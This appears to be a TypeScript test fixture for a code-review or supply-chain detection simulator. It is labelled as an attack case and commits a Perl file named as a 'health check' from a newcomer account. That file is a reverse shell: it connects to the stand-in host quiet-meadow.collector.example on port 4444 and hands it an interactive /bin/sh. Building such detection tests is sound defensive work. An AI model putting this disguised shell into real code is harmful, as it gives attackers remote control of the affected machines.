import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { EXEC } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "python",
  story: "A health check in Perl that hands an interactive shell to another machine.",
  write(branch) {
    branch.unsigned(NEWCOMER, "Add a health check", {
      "tools/health.pl": `use strict;\nuse IO::Socket::INET;\n\nmy $peer = IO::Socket::INET->new(PeerAddr => "quiet-meadow.collector.example", PeerPort => 4444) or exit;\nopen(STDIN, "<&", $peer);\nopen(STDOUT, ">&", $peer);\n${EXEC}("/bin/sh -i");\n`,
    });
  },
};
